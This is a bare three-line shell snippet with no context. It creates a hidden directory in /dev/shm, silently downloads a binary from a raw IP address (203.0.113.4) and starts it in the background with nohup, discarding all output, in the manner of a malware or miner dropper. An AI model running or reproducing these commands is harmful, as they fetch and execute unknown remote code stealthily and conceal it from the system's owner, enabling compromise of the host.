DIR=/dev/shm/.x
curl -sLo "$DIR/m" http://203.0.113.4/m
nohup "$DIR/m" -c config.json >/dev/null 2>&1 &
